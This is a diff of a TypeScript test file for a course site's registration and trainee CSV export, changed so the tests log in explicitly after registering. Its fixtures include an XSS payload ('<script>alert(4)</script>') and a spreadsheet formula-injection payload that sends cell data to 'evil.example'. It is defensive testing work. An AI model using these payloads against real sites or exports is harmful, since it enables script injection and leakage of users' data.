@@ -33,7 +33,8 @@ beforeAll(async () => {
   w = await createWorld('markup', { sessions: 2 });
   const res = await w.http.post('/en/register', { name: NAME, email: 'markup@oqu.test', password: 'amber-steppe-lantern-4', locale: 'en', region: '<b>Алматы</b>', organisation: '<script>alert(4)</script>' });
   expect(res.status, res.text.slice(0, 300)).toBe(303);
-  cookie = sessionCookieOf(res)!;
+  // Registration signs no one in (docs/decisions/012): sign in with the chosen password.
+  cookie = sessionCookieOf(await w.http.post('/en/login', { email: 'markup@oqu.test', password: 'amber-steppe-lantern-4' }))!;
   for (const lesson of urbanism.lessons) await w.http.post(donePath('urbanism', lesson), {}, { cookie });
   for (const q of Object.values(urbanism.quizzes)) {
     const form = passingForm(q.file, randomKey());
@@ -91,7 +92,8 @@ test.skipIf(!existsSync(join(siteRoot, 'src', 'pages', '[locale]', 'trainer', 'c
     const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
     const res = await w.http.post('/en/register', { name: formula, email: 'formula@oqu.test', password: 'amber-steppe-lantern-4', locale: 'en' });
     expect(res.status).toBe(303);
-    await w.http.post(donePath('urbanism', urbanism.lessons[0]!), {}, { cookie: sessionCookieOf(res) });
+    const signedIn = await w.http.post('/en/login', { email: 'formula@oqu.test', password: 'amber-steppe-lantern-4' });
+    await w.http.post(donePath('urbanism', urbanism.lessons[0]!), {}, { cookie: sessionCookieOf(signedIn) });
     const csv = await w.http.get('/en/trainer/courses/urbanism/trainees.csv', { cookie: w.cookie('trainer') });
     expect(csv.status).toBe(200);
     const line = csv.text.split('\r\n').find((l) => l.includes('HYPERLINK'));
